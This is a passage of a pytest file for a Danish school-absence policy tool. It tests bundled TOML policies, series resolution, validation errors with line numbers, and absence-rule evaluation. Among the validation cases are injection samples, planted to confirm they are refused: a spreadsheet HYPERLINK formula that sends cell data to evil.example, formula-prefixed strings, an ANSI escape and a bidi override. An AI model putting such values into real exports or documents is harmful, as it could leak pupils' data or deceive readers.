"""Policies as data: the bundled policies, series, strict validation with TOML lines, and
evaluation (docs/policies.md).

The evaluation test uses a policy with ``days`` and ``percent`` rules and nested ``all`` / ``any``
conditions on a small hand-built frame whose steps, rule values and quarter figures are worked out
by hand, thresholds hit exactly included.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal
from importlib import resources
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner, Result

from fravaer import schema as s
from fravaer.classify import classify
from fravaer.cli import app
from fravaer.errors import InputMissingError, PolicyError
from fravaer.ingest.policy import bundled_policies, bundled_series, load_policy, resolve_policy
from fravaer.policy import (
    DEFAULT_POLICY,
    NATIONAL_POLICY,
    AllOf,
    AnyOf,
    Lang,
    Policy,
    Threshold,
    Window,
    parse_policy,
    thresholds,
)
from fravaer.tomltext import toml_lines

ROOT = Path(__file__).resolve().parents[1]
BUNDLED = Path(str(resources.files("fravaer") / "policies"))
EXAMPLE_POLICIES = ROOT / "examples" / "policies"
AALBORG = (BUNDLED / "aalborg-2023.toml").read_text("utf-8")
NAMES = bundled_policies()  # what is registered: a policy added later is tested too
DOCS = ROOT / "docs" / "policies.md"

NESTED = """
name = "nested-2022"
version = "1"
effective_from = 2022-01-01
source = "tests"
min_school_days = 10
primary_rule = "pct_40"
title = { da = "Indlejret", en = "Nested" }
description = { da = "Til test.", en = "For tests." }

[rules.pct_40]
measure = "percent"
window = { school_days = 40 }
categories = ["illness", "leave", "unlawful"]

[rules.days_20]
measure = "days"
window = { school_days = 20 }
categories = ["illness", "leave", "unlawful"]

[rules.unlawful_10]
measure = "days"
window = { school_days = 10 }
categories = ["unlawful"]

[[steps]]
step = 1
when = { all = [
  { rule = "days_20", at_least = 4 },
  { any = [ { rule = "pct_40", at_least = 20 }, { rule = "unlawful_10", at_least = 2 } ] },
] }
responsible = { da = "Klasseteamet", en = "Class team" }
actions = { da = ["Afdæk årsagerne."], en = ["Map the causes."] }

[[steps]]
step = 2
when = { any = [
  { rule = "pct_40", at_least = 30 },
  { rule = "unlawful_10", at_least = 2.5 },
] }
responsible = { da = "Tovholder", en = "Coordinator" }
actions = { da = ["Udarbejd en handleplan."], en = ["Write an action plan."] }
"""


def line_of(text: str, snippet: str, after: str | None = None) -> int:
    """The 1-based line of ``text`` holding ``snippet`` (the first one after ``after``)."""
    lines = text.splitlines()
    start = 0 if after is None else line_of(text, after)
    return next(i for i, line in enumerate(lines, 1) if i > start and snippet in line)


def refused(text: str) -> str:
    with pytest.raises(PolicyError) as caught:
        parse_policy(text, source="my-policy.toml")
    assert caught.value.exit_code == 78
    message = caught.value.message
    assert message.startswith("my-policy.toml")
    assert "\n" not in message
    return message


def run(*args: object) -> Result:
    return CliRunner().invoke(app, [str(arg) for arg in args])


def versioned(name: str, series: str, effective_from: str) -> str:
    """The bundled Aalborg text as another policy of a custom series."""
    return (
        AALBORG.replace('name = "aalborg-2023"', f'name = "{name}"')
        .replace('series = "aalborg"', f'series = "{series}"')
        .replace("effective_from = 2023-08-01", f"effective_from = {effective_from}")
    )


# -- the bundled policies ----------------------------------------------------------------------


def test_the_documented_policies_are_bundled() -> None:
    assert {"aalborg-2022", "aalborg-2023", "national-unlawful", "odense", "slagelse"} <= set(NAMES)
    assert DEFAULT_POLICY == "aalborg-2023"
    assert NATIONAL_POLICY == "national-unlawful"
    assert {DEFAULT_POLICY, NATIONAL_POLICY} <= set(NAMES)


@pytest.mark.parametrize("name", NAMES)
def test_every_bundled_policy_has_a_section_in_the_docs(name: str) -> None:
    text = DOCS.read_text(encoding="utf-8")
    bundled = text.split("\n## The bundled policies\n", 1)[1].split("\n## ", 1)[0]

    assert re.search(rf"^### .*\(`{re.escape(name)}`[,)]", bundled, re.MULTILINE), name


# Each bundled policy's source, by hand (test_every_bundled_policy_has_its_source_here).
SOURCES = {
    "aalborg-2022": "Aalborg Kommune",
    "aalborg-2023": "Aalborg Kommune, Handlevejledning ved bekymrende fravær, 2023",
    "national-unlawful": "Børne- og Undervisningsministeriet",
    "odense": "Odense Kommune",
    "slagelse": "Slagelse Kommune",
}


def test_every_bundled_policy_has_its_source_here() -> None:
    assert sorted(SOURCES) == NAMES


@pytest.mark.parametrize("name", NAMES)
def test_each_bundled_policy_loads_and_names_its_source(name: str) -> None:
    policy = load_policy(name)

    assert policy.name == name
    assert policy.source.startswith(SOURCES[name])
    assert policy.description("da")
    assert policy.description("en")
    assert policy.title("da") != policy.title("en")
    for step in policy.steps:
        assert len(step.actions("da")) == len(step.actions("en")) >= 1


@pytest.mark.parametrize("name", NAMES)
def test_each_bundled_file_parses_as_its_own_text(name: str) -> None:
    text = (BUNDLED / f"{name}.toml").read_text("utf-8")

    assert parse_policy(text, source="copy.toml") == load_policy(name)


def test_bundled_series_group_the_versions_oldest_first() -> None:
    series = bundled_series()

    assert sorted(p.name for versions in series.values() for p in versions) == NAMES
    for key, versions in series.items():
        assert all((p.series or p.name) == key for p in versions), key
        dates = [p.effective_from for p in versions]
        assert dates == sorted(set(dates)), key
    assert [p.name for p in series["aalborg"]] == ["aalborg-2022", "aalborg-2023"]
    assert [p.effective_from for p in series["aalborg"]] == [date(2019, 8, 1), date(2023, 8, 1)]


def test_aalborg_2023_matches_the_guideline() -> None:
    policy = load_policy("aalborg-2023")

    assert policy.series == "aalborg"
    assert policy.effective_from == date(2023, 8, 1)
    assert policy.min_school_days == 10
    assert list(policy.rules) == [policy.primary_rule] == ["absence_100"]
    assert policy.primary.measure == "percent"
    assert policy.primary.window == Window(school_days=100)
    assert set(policy.primary.categories) == {"illness", "leave", "unlawful"}
    assert [step.step for step in policy.steps] == [1, 2, 3]
    # One rule, three thresholds: the threshold sits in the step's condition.
    assert [step.when for step in policy.steps] == [
        Threshold(rule="absence_100", at_least=Decimal(t)) for t in (10, 15, 20)
    ]


def test_aalborg_2023_steps_say_who_and_what_in_danish_and_english() -> None:
    policy = load_policy("aalborg-2023")

    assert [step.responsible("da") for step in policy.steps] == [
        "Klasseteamet",
        "Tovholder",
        "Tovholder",
    ]
    assert policy.step(1).responsible("en") == "Class team"
    assert "tovholder" in policy.step(2).responsible("en")
    assert any("handleplan" in action for action in policy.step(2).actions("da"))
    assert any("Underretning" in action for action in policy.step(3).actions("da"))
    assert any("PPR" in action for action in policy.step(3).actions("en"))


def test_aalborg_2022_is_40_days_and_20_percent_of_200_school_days() -> None:
    policy = load_policy("aalborg-2022")

    assert policy.series == "aalborg"
    assert {name: (r.measure, r.window.school_days) for name, r in policy.rules.items()} == {
        "absence_200": ("percent", 200),
        "absent_days_200": ("days", 200),
    }
    assert policy.primary_rule == "absence_200"
    assert policy.step(1).when == AllOf(
        all=(
            Threshold(rule="absent_days_200", at_least=Decimal(40)),
            Threshold(rule="absence_200", at_least=Decimal(20)),
        )
    )


def test_odense_is_10_percent_of_200_school_days() -> None:
    policy = load_policy("odense")

    assert policy.primary.measure == "percent"
    assert policy.primary.window == Window(school_days=200)
    assert [step.when for step in policy.steps] == [
        Threshold(rule="absence_200", at_least=Decimal(10))
    ]


def test_slagelse_is_a_run_of_5_or_5_of_20_or_15_of_60() -> None:
    policy = load_policy("slagelse")

    rules = {name: (r.measure, r.window.school_days) for name, r in policy.rules.items()}
    assert rules == {
        "consecutive": ("consecutive_days", 20),
        "absent_days_20": ("days", 20),
        "absent_days_60": ("days", 60),
    }
    assert policy.rules["consecutive"].run_fraction == 1
    assert policy.step(1).when == AnyOf(
        any=(
            Threshold(rule="consecutive", at_least=Decimal(5)),
            Threshold(rule="absent_days_20", at_least=Decimal(5)),
            Threshold(rule="absent_days_60", at_least=Decimal(15)),
        )
    )


def test_national_unlawful_is_the_quarter_rule_with_labelled_steps() -> None:
    policy = load_policy("national-unlawful")

    assert policy.primary.measure == "percent"
    assert policy.primary.window == Window(period="quarter")
    assert policy.primary.categories == ("unlawful",)
    assert policy.min_school_days == 1
    assert [(step.label, step.when) for step in policy.steps] == [
        ("warn_parents", Threshold(rule="unlawful_quarter", at_least=Decimal(10))),
        ("notify_municipality", Threshold(rule="unlawful_quarter", at_least=Decimal(15))),
    ]


def test_aalborg_2023_thresholds_are_inclusive_on_the_boundary() -> None:
    """10.0 % is step 1, 15 % step 2, 20 % step 3; one hundredth of a day less is not."""
    policy = load_policy("aalborg-2023")
    days = [date(2024, 1, 1) + timedelta(days=i) for i in range(100)]
    pupils = {"a10": 10.0, "b9": 9.99, "c15": 15.0, "d14": 14.99, "e20": 20.0, "f19": 19.99}
    rows = []
    for pupil, absent in pupils.items():
        whole, part = int(absent), round(absent - int(absent), 3)
        fractions = [1.0] * whole + ([part] if part else [])
        fractions += [0.0] * (100 - len(fractions))
        rows += [(pupil, day, f) for day, f in zip(days, fractions, strict=True)]
    frame = pl.LazyFrame(
        {
            s.PUPIL_ID: [r[0] for r in rows],
            s.SCHOOL_ID: ["1"] * len(rows),
            s.DATE: [r[1] for r in rows],
            s.CATEGORY: ["illness" if r[2] else "present" for r in rows],
            s.ABSENT_FRACTION: [r[2] for r in rows],
            s.GRADE: [5] * len(rows),
            s.CLASS_NAME: ["5.A"] * len(rows),
        },
        schema=s.CANONICAL_SCHEMA,
    )

    out = classify(frame, policy=policy, national=None, as_of=days[-1]).collect()

    assert dict(zip(out[s.PUPIL_ID], out[s.STEP], strict=True)) == {
        "a10": 1,
        "b9": 0,
        "c15": 2,
        "d14": 1,
        "e20": 3,
        "f19": 2,
    }
    assert out["rule_absence_100"].to_list() == out[s.ABSENCE_PCT].to_list()


# -- loading and resolving ---------------------------------------------------------------------


def test_unknown_policy_name_lists_the_bundled_ones() -> None:
    with pytest.raises(PolicyError) as caught:
        load_policy("nope")

    assert caught.value.exit_code == 78
    assert "'nope'" in caught.value.message
    assert caught.value.hint is not None
    for name in [*NAMES, *bundled_series()]:
        assert name in caught.value.hint


def test_missing_policy_file_is_input_missing() -> None:
    with pytest.raises(InputMissingError) as caught:
        load_policy("/nonexistent/x.toml")

    assert caught.value.exit_code == 66
    assert "/nonexistent/x.toml" in caught.value.message


def test_custom_policy_file_loads(tmp_path: Path) -> None:
    path = tmp_path / "nested.toml"
    path.write_text(NESTED, encoding="utf-8")

    policy = load_policy(str(path))

    assert policy.name == "nested-2022"
    assert policy.series is None
    assert set(policy.rules) == {"pct_40", "days_20", "unlawful_10"}


def test_invalid_custom_policy_file_names_the_path_and_line(tmp_path: Path) -> None:
    path = tmp_path / "broken.toml"
    path.write_text("colour = 'blue'\n" + AALBORG, encoding="utf-8")

    with pytest.raises(PolicyError) as caught:
        load_policy(str(path))

    assert caught.value.message.startswith(f"{path}:1: field 'colour': ")


@pytest.mark.parametrize(
    ("as_of", "name"),
    [
        (date(2019, 8, 1), "aalborg-2022"),
        (date(2023, 7, 31), "aalborg-2022"),
        (date(2023, 8, 1), "aalborg-2023"),
        (date(2024, 3, 8), "aalborg-2023"),
    ],
)
def test_the_aalborg_series_resolves_to_the_version_in_force(as_of: date, name: str) -> None:
    assert resolve_policy("aalborg", as_of=as_of).name == name


def test_a_named_version_is_that_version_whatever_the_date() -> None:
    assert resolve_policy("aalborg-2022", as_of=date(2024, 3, 8)).name == "aalborg-2022"
    assert resolve_policy("aalborg-2023", as_of=date(2024, 3, 8)).name == "aalborg-2023"
    assert resolve_policy("odense", as_of=date(2024, 3, 8)).name == "odense"


def test_a_bundled_series_before_its_first_version_is_refused() -> None:
    with pytest.raises(PolicyError) as caught:
        resolve_policy("aalborg", as_of=date(2019, 7, 31))

    assert caught.value.exit_code == 78
    assert "2019-07-31" in caught.value.message
    assert caught.value.hint == "the earliest takes effect on 2019-08-01"


@pytest.fixture
def series_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "myby"
    folder.mkdir()
    (folder / "myby-2021.toml").write_text(versioned("myby-2021", "myby", "2021-08-01"), "utf-8")
    (folder / "myby-2024.toml").write_text(versioned("myby-2024", "myby", "2024-01-01"), "utf-8")
    return folder


@pytest.mark.parametrize(
    ("as_of", "name"),
    [
        (date(2021, 8, 1), "myby-2021"),
        (date(2023, 12, 31), "myby-2021"),
        (date(2024, 1, 1), "myby-2024"),
        (date(2025, 6, 1), "myby-2024"),
    ],
)
def test_a_folder_of_one_series_resolves_by_date(
    series_folder: Path, as_of: date, name: str
) -> None:
    assert resolve_policy(str(series_folder), as_of=as_of).name == name


def test_a_folder_date_before_every_version_is_refused_with_a_hint(series_folder: Path) -> None:
    with pytest.raises(PolicyError) as caught:
        resolve_policy(str(series_folder), as_of=date(2021, 7, 31))

    assert caught.value.exit_code == 78
    assert caught.value.message == "no version of the policy is in force on 2021-07-31"
    assert caught.value.hint == "the earliest takes effect on 2021-08-01"


def test_a_folder_mixing_series_is_refused(series_folder: Path) -> None:
    (series_folder / "other.toml").write_text(versioned("other", "other", "2022-08-01"), "utf-8")

    with pytest.raises(PolicyError) as caught:
        resolve_policy(str(series_folder), as_of=date(2024, 3, 8))

    assert caught.value.exit_code == 78
    assert caught.value.message == f"{series_folder}: the folder mixes policies of different series"


def test_an_empty_folder_is_refused(tmp_path: Path) -> None:
    with pytest.raises(PolicyError) as caught:
        resolve_policy(str(tmp_path), as_of=date(2024, 3, 8))

    assert caught.value.exit_code == 78
    assert "no policy .toml files" in caught.value.message


def test_a_bad_file_in_a_folder_is_refused_with_its_path_and_line(series_folder: Path) -> None:
    bad = series_folder / "myby-2022.toml"
    text = versioned("myby-2022", "myby", "2022-08-01").replace("= 15 }", "= -15 }")
    bad.write_text(text, encoding="utf-8")

    with pytest.raises(PolicyError) as caught:
        resolve_policy(str(series_folder), as_of=date(2024, 3, 8))

    line = line_of(text, "at_least = -15")
    assert caught.value.message.startswith(f"{bad}:{line}: field 'steps.1.when.at_least': ")


# -- strict validation, with the TOML line -----------------------------------------------------

STEP_2_WHEN = 'when = { rule = "absence_100", at_least = 15 }'
STEP_3 = 'step = 3\nwhen = { rule = "absence_100", at_least = 20 }'
CATEGORIES = 'categories = ["illness", "leave", "unlawful"]'
WINDOW = "window = { school_days = 100 }"
MEASURE = 'measure = "percent"'


# id -> (edited document, the line the message must name or None, texts the message must contain)
REFUSALS: dict[str, tuple[str, str | None, tuple[str, ...]]] = {
    "unknown-top-level-key": ("colour = 'blue'\n" + AALBORG, "colour", ("field 'colour'",)),
    "unknown-key-in-a-rule": (
        AALBORG.replace(MEASURE, MEASURE + "\nwindow_size = 200"),
        "window_size",
        ("field 'rules.absence_100.window_size'", "Extra inputs are not permitted"),
    ),
    "old-schema-measures": (
        AALBORG.replace("[rules.absence_100]\nmeasure", "[measures.absence_100]\nkind"),
        None,
        ("field 'rules': Field required",),
    ),
    "missing-description": (
        AALBORG.replace("[description]", "[summary]"),
        None,
        ("field 'description': Field required",),
    ),
    "steps-numbered-1-3": (
        AALBORG.replace("step = 2\n", "step = 3\n").replace(STEP_3, STEP_3.replace("3", "4", 1)),
        None,
        ("steps must be numbered 1, 2, 3",),
    ),
    "step-uses-unknown-rule": (
        AALBORG.replace(STEP_2_WHEN, STEP_2_WHEN.replace("absence_100", "absence_200")),
        None,
        ("step 2", "unknown rule 'absence_200'"),
    ),
    "primary-rule-not-among-rules": (
        AALBORG.replace('primary_rule = "absence_100"', 'primary_rule = "absence_200"'),
        None,
        ("primary_rule 'absence_200' is not among the rules",),
    ),
    "unknown-measure": (
        AALBORG.replace(MEASURE, 'measure = "percentage"'),
        "percentage",
        ("field 'rules.absence_100.measure'", "'percent', 'days' or 'consecutive_days'"),
    ),
    "negative-threshold": (
        AALBORG.replace("at_least = 10 }", "at_least = -10 }"),
        "at_least = -10",
        ("field 'steps.0.when.at_least'", "greater than or equal to 0"),
    ),
    "negative-threshold-in-step-2": (
        AALBORG.replace("at_least = 15 }", "at_least = -15 }"),
        "at_least = -15",
        ("field 'steps.1.when.at_least'",),
    ),
    "threshold-with-four-decimals": (
        AALBORG.replace("at_least = 10 }", "at_least = 9.9999 }"),
        "at_least = 9.9999",
        ("field 'steps.0.when.at_least'", "no more than 3 decimal places"),
    ),
    "threshold-as-text": (
        AALBORG.replace("at_least = 10 }", 'at_least = "10" }'),
        'at_least = "10"',
        ("field 'steps.0.when.at_least': must be a number",),
    ),
    "empty-categories": (
        AALBORG.replace(CATEGORIES, "categories = []"),
        "categories = []",
        ("field 'rules.absence_100.categories'",),
    ),
    "repeated-category": (
        AALBORG.replace(CATEGORIES, 'categories = ["illness", "leave", "illness"]'),
        "[rules.absence_100]",
        ("field 'rules.absence_100'", "categories must not repeat"),
    ),
    "present-is-not-absence": (
        AALBORG.replace(CATEGORIES, 'categories = ["illness", "present"]'),
        '"present"',
        ("field 'rules.absence_100.categories.1'",),
    ),
    "zero-day-window": (
        AALBORG.replace("school_days = 100", "school_days = 0"),
        "school_days = 0",
        ("field 'rules.absence_100.window.school_days'",),
    ),
    "window-with-two-kinds": (
        AALBORG.replace(WINDOW, "window = { school_days = 100, weeks = 4 }"),
        "weeks = 4",
        ("field 'rules.absence_100.window'", "exactly one of school_days, weeks or period"),
    ),
    "window-with-all-three-kinds": (
        AALBORG.replace(WINDOW, 'window = { school_days = 100, weeks = 4, period = "quarter" }'),
        "weeks = 4",
        ("field 'rules.absence_100.window'", "exactly one of school_days, weeks or period"),
    ),
    "window-with-none": (
        AALBORG.replace(WINDOW, "window = {}"),
        "window = {}",
        ("field 'rules.absence_100.window'", "exactly one of school_days, weeks or period"),
    ),
    "window-of-an-unknown-period": (
        AALBORG.replace(WINDOW, 'window = { period = "month" }'),
        '"month"',
        ("field 'rules.absence_100.window.period'", "'quarter' or 'school_year'"),
    ),
    "window-with-an-unknown-key": (
        AALBORG.replace(WINDOW, "window = { days = 100 }"),
        "window = { days = 100 }",
        ("field 'rules.absence_100.window.days'", "Extra inputs are not permitted"),
    ),
    "min-fraction-on-a-percent-rule": (
        AALBORG.replace(MEASURE, MEASURE + "\nmin_fraction = 0.5"),
        "[rules.absence_100]",
        ("field 'rules.absence_100'", "min_fraction applies only to measure = 'consecutive_days'"),
    ),
    "min-fraction-above-one": (
        AALBORG.replace(MEASURE, 'measure = "consecutive_days"\nmin_fraction = 1.5'),
        "min_fraction",
        ("field 'rules.absence_100.min_fraction'", "less than or equal to 1"),
    ),
    "rule-name-with-capitals": (
        AALBORG.replace("absence_100", "Absence100"),
        None,
        ("field 'rules'", "rule name 'Absence100' must be lower-case letters, digits and _"),
    ),
    "rule-name-with-a-hyphen": (
        AALBORG.replace("absence_100", "absence-100"),
        None,
        ("field 'rules'", "rule name 'absence-100' must be lower-case letters, digits and _"),
    ),
    "step-label-not-lower-snake": (
        AALBORG.replace("step = 1\n", 'step = 1\nlabel = "Warn parents"\n'),
        "label =",
        ("field 'steps.0.label'",),
    ),
    "series-not-a-name": (
        AALBORG.replace('series = "aalborg"', 'series = "Aalborg"'),
        "series =",
        ("field 'series'",),
    ),
    "missing-english-text": (
        AALBORG.replace('en = "Class team"\n', ""),
        "[steps.responsible]",
        ("field 'steps.0.responsible.en'", "Field required"),
    ),
    "responsible-begins-a-formula": (
        AALBORG.replace('da = "Klasseteamet"', 'da = "@SUM(1+1)"'),
        "@SUM",
        ("field 'steps.0.responsible.da'", "begins with =, +, - or @"),
    ),
    "action-begins-a-formula-after-spaces": (
        AALBORG.replace(
            '"Klasseteamet afdækker årsagerne til fraværet.",',
            '"  =HYPERLINK(\\"http://evil.example/?\\"&A2,\\"klik\\")",',
        ),
        "da = [",
        ("field 'steps.0.actions.da.0'", "begins with =, +, - or @"),
    ),
    "action-with-an-escape-character": (
        AALBORG.replace(
            '"Klasseteamet afdækker årsagerne til fraværet.",',
            '"Klasseteamet \\u001b[31mafdækker.",',
        ),
        "da = [",
        ("field 'steps.0.actions.da.0'", "control or invisible character"),
    ),
    "title-with-a-bidi-override": (
        AALBORG.replace('da = "Aalborg', 'da = "\\u202eAalborg', 1),
        "\\u202e",
        ("field 'title.da'", "control or invisible character"),
    ),
    "source-begins-a-formula": (
        AALBORG.replace('source = "', 'source = "-2+3 ', 1),
        "source =",
        ("field 'source'", "begins with =, +, - or @"),
    ),
    "invalid-toml": (
        AALBORG.replace('version = "2023.1"', 'version = "2023.1'),
        "version =",
        ("not valid TOML",),
    ),
}


@pytest.mark.parametrize("case", list(REFUSALS))
def test_parse_policy_refuses_with_the_field_and_line_named(case: str) -> None:
    text, at, named = REFUSALS[case]

    message = refused(text)

    if at is None:
        assert message.startswith("my-policy.toml: "), message
    else:
        assert message.startswith(f"my-policy.toml:{line_of(text, at)}:"), message
    for part in named:
        assert part in message


def test_more_faults_are_counted_after_the_first() -> None:
    text = AALBORG.replace("at_least = 10 }", "at_least = -10 }").replace("= 15 }", "= -15 }")

    message = refused(text)

    assert message.startswith(f"my-policy.toml:{line_of(text, '-10')}: field 'steps.0.when.")
    assert message.endswith(" (and 1 more)")


def test_a_fault_inside_a_multi_line_condition_points_at_its_when() -> None:
    text = NESTED.replace(
        '{ rule = "days_20", at_least = 4 }', '{ rule = "days_20", at_least = -4 }'
    )

    message = refused(text)

    assert message.startswith(f"my-policy.toml:{line_of(text, 'when = { all')}: ")
    assert "field 'steps.0.when.all.0.at_least'" in message


@pytest.mark.parametrize(
    ("window", "expected"),
    [
        ("{ school_days = 20 }", Window(school_days=20)),
        ("{ weeks = 4 }", Window(weeks=4)),
        ('{ period = "quarter" }', Window(period="quarter")),
        ('{ period = "school_year" }', Window(period="school_year")),
    ],
)
def test_each_kind_of_window_parses(window: str, expected: Window) -> None:
    policy = parse_policy(AALBORG.replace("{ school_days = 100 }", window), source="x.toml")

    assert policy.primary.window == expected


def test_min_fraction_belongs_to_consecutive_days() -> None:
    text = AALBORG.replace(MEASURE, 'measure = "consecutive_days"\nmin_fraction = 0.5')

    policy = parse_policy(text, source="x.toml")

    assert policy.primary.min_fraction == Decimal("0.5")
    assert policy.primary.run_fraction == Decimal("0.5")
    assert load_policy("aalborg-2023").primary.run_fraction == 1  # the default: a whole day


# -- where a field is in the TOML text ---------------------------------------------------------

LAYOUT = """\
# a comment = not a key
name = "layout"  # a trailing comment
source = "a = b, [not] a table"

[title]
da = "Titel"
en = "Title"

[rules.pct]
measure = "percent"
window = { school_days = 20 }

[rules.run]
measure = "consecutive_days"
window = { weeks = 4 }

[[steps]]
step = 1
when = { rule = "pct", at_least = 10 }

[steps.actions]
da = [
  "Første.",
  "Anden.",
]
en = ["First.", "Second."]

[[steps]]
step = 2
when = { rule = "run", at_least = 5 }

[steps.actions]
da = ["Tredje."]
"""


@pytest.mark.parametrize(
    ("path", "snippet", "after"),
    [
        (("name",), 'name = "layout"', None),
        (("source",), "source =", None),
        (("title",), "[title]", None),
        (("title", "en"), 'en = "Title"', None),
        (("rules", "pct"), "[rules.pct]", None),
        (("rules", "pct", "window"), "school_days = 20", None),
        (("rules", "pct", "window", "school_days"), "school_days = 20", None),
        (("rules", "run", "measure"), "consecutive_days", None),
        (("rules", "run", "window", "weeks"), "weeks = 4", None),
        (("steps", "0"), "[[steps]]", None),
        (("steps", "0", "step"), "step = 1", None),
        (("steps", "0", "when", "at_least"), "at_least = 10", None),
        (("steps", "0", "actions"), "[steps.actions]", None),
        (("steps", "0", "actions", "da"), "da = [", None),
        (("steps", "0", "actions", "en"), "en = [", None),
        (("steps", "1"), "[[steps]]", "step = 1"),
        (("steps", "1", "step"), "step = 2", None),
        (("steps", "1", "when"), 'rule = "run"', None),
        (("steps", "1", "when", "rule"), 'rule = "run"', None),
        (("steps", "1", "when", "at_least"), "at_least = 5", None),
        (("steps", "1", "actions"), "[steps.actions]", "step = 2"),
        (("steps", "1", "actions", "da"), 'da = ["Tredje."]', None),
    ],
)
def test_toml_lines_maps_field_paths_to_lines(
    path: tuple[str, ...], snippet: str, after: str | None
) -> None:
    assert toml_lines(LAYOUT)[path] == line_of(LAYOUT, snippet, after)


def test_toml_lines_ignores_comments_strings_and_array_items() -> None:
    lines = toml_lines(LAYOUT)

    assert ("a",) not in lines  # `a = b` inside a string and `a comment = ...` in a comment
    assert ("not",) not in lines
    assert ("steps", "1", "en") not in lines
    assert ("steps", "2") not in lines  # two [[steps]], numbered 0 and 1
    assert lines[("source",)] == 3


# -- nested conditions -------------------------------------------------------------------------


def test_nested_all_any_conditions_parse_into_a_tree() -> None:
    policy = parse_policy(NESTED, source="nested.toml")

    step1 = policy.step(1).when
    assert isinstance(step1, AllOf)
    assert step1.all[0] == Threshold(rule="days_20", at_least=Decimal(4))
    assert isinstance(step1.all[1], AnyOf)
    assert isinstance(policy.step(2).when, AnyOf)
    assert policy.rules["days_20"].measure == "days"


def test_thresholds_flattens_depth_first() -> None:
    policy = parse_policy(NESTED, source="nested.toml")

    assert [(t.rule, t.at_least) for t in thresholds(policy.step(1).when)] == [
        ("days_20", Decimal(4)),
        ("pct_40", Decimal(20)),
        ("unlawful_10", Decimal(2)),
    ]
    assert [(t.rule, t.at_least) for t in thresholds(policy.step(2).when)] == [
        ("pct_40", Decimal(30)),
        ("unlawful_10", Decimal("2.5")),
    ]


def test_a_nested_condition_with_an_unknown_rule_is_refused() -> None:
    text = NESTED.replace('{ rule = "unlawful_10", at_least = 2 }', '{ rule = "x", at_least = 2 }')

    assert "step 1 uses unknown rule 'x'" in refused(text)


# -- evaluation of days and percent rules and all/any ------------------------------------------

DAYS = [date(2024, 1, 1) + timedelta(days=i) for i in range(40)]  # index 39 is the as-of date

# pupil -> (indexes of DAYS the pupil has, {index: [(category, fraction), ...]}); other days present
Absence = dict[int, list[tuple[str, float]]]


def _ill(indexes: range | list[int], fraction: float = 1.0, category: str = "illness") -> Absence:
    return {i: [(category, fraction)] for i in indexes}


PUPILS: dict[str, tuple[range, Absence]] = {
    # days_20 = 4 exactly and pct_40 = 8/40 = 20 % exactly -> step 1
    "a-both-exact": (range(40), {**_ill(range(36, 40)), **_ill(range(4))}),
    # pct_40 = 20 % but only 3 days in the latest 20 -> all() fails -> 0
    "b-days-short": (range(40), {**_ill(range(37, 40)), **_ill(range(5))}),
    # days_20 = 4 but pct_40 = 7.999/40 = 19.9975 % and no unlawful -> 0
    "c-pct-short": (range(40), {**_ill(range(36, 40)), **_ill(range(3)), 3: [("illness", 0.999)]}),
    # days_20 = 4, pct 10 %, unlawful_10 = 2 exactly -> any() holds -> step 1
    "d-unlawful-exact": (
        range(40),
        {**_ill([22, 24]), **_ill([34, 38], category="unlawful")},
    ),
    # unlawful_10 = 5 half days = 2.5 exactly -> step 2 although step 1's all() fails
    "e-half-days": (range(40), _ill(range(35, 40), 0.5, "unlawful")),
    # unlawful_10 = 2.499 -> 0
    "f-just-below-half": (
        range(40),
        {**_ill(range(36, 40), 0.5, "unlawful"), 35: [("unlawful", 0.499)]},
    ),
    # 12 of 40 days = 30 % exactly, all older than the latest 20 -> step 2 only
    "g-pct-30-old": (range(40), _ill(range(12))),
    # a day split into illness 0.5 + leave 0.5 counts as one day: 4 + 4 of 40 -> step 1
    "h-split-days": (
        range(40),
        {
            **{i: [("illness", 0.5), ("leave", 0.5)] for i in range(36, 40)},
            **_ill(range(4), category="leave"),
        },
    ),
    # exactly min_school_days (10): 4 of 10 = 40 % -> step 1 (4 days, 40 %) and step 2 (>= 30 %)
    "i-ten-days": (range(30, 40), _ill(range(36, 40))),
    # 9 school days: below min_school_days -> insufficient_data, no step
    "j-nine-days": (range(31, 40), _ill(range(31, 40))),
    # 4 old unlawful days: 10 % -> step 0, but 10 % unlawful in the quarter -> warn the parents
    "k-quarter-10": (range(40), _ill(range(4), category="unlawful")),
    # 6 old unlawful days: 15 % -> step 0, but 15 % in the quarter -> notify the municipality
    "l-quarter-15": (range(40), _ill(range(6), category="unlawful")),
}

# pupil -> (step, status, absence_pct, rule_pct_40, rule_days_20, rule_unlawful_10,
#           quarter_unlawful_pct, quarter_flag); every day is in the first quarter of 2024
EXPECTED: dict[str, tuple[int | None, str, float, float, float, float, float, str]] = {
    "a-both-exact": (1, s.STATUS_OK, 20.0, 20.0, 4.0, 0.0, 0.0, "none"),
    "b-days-short": (0, s.STATUS_OK, 20.0, 20.0, 3.0, 0.0, 0.0, "none"),
    "c-pct-short": (0, s.STATUS_OK, 19.9975, 19.9975, 4.0, 0.0, 0.0, "none"),
    "d-unlawful-exact": (1, s.STATUS_OK, 10.0, 10.0, 4.0, 2.0, 5.0, "none"),
    "e-half-days": (2, s.STATUS_OK, 6.25, 6.25, 2.5, 2.5, 6.25, "none"),
    "f-just-below-half": (0, s.STATUS_OK, 6.2475, 6.2475, 2.499, 2.499, 6.2475, "none"),
    "g-pct-30-old": (2, s.STATUS_OK, 30.0, 30.0, 0.0, 0.0, 0.0, "none"),
    "h-split-days": (1, s.STATUS_OK, 20.0, 20.0, 4.0, 0.0, 0.0, "none"),
    "i-ten-days": (2, s.STATUS_OK, 40.0, 40.0, 4.0, 0.0, 0.0, "none"),
    "j-nine-days": (None, s.STATUS_INSUFFICIENT, 100.0, 100.0, 9.0, 0.0, 0.0, "none"),
    "k-quarter-10": (0, s.STATUS_OK, 10.0, 10.0, 0.0, 0.0, 10.0, "warn_parents"),
    "l-quarter-15": (0, s.STATUS_OK, 15.0, 15.0, 0.0, 0.0, 15.0, "notify_municipality"),
}
RULE_COLUMNS = ["rule_pct_40", "rule_days_20", "rule_unlawful_10"]


def _frame() -> pl.LazyFrame:
    rows: list[tuple[str, date, str, float]] = []
    for pupil, (indexes, absence) in PUPILS.items():
        for i in indexes:
            for category, fraction in absence.get(i, [("present", 0.0)]):
                rows.append((pupil, DAYS[i], category, fraction))
    return pl.LazyFrame(
        {
            s.PUPIL_ID: [r[0] for r in rows],
            s.SCHOOL_ID: ["851001"] * len(rows),
            s.DATE: [r[1] for r in rows],
            s.CATEGORY: [r[2] for r in rows],
            s.ABSENT_FRACTION: [r[3] for r in rows],
            s.GRADE: [5] * len(rows),
            s.CLASS_NAME: ["5.A"] * len(rows),
        },
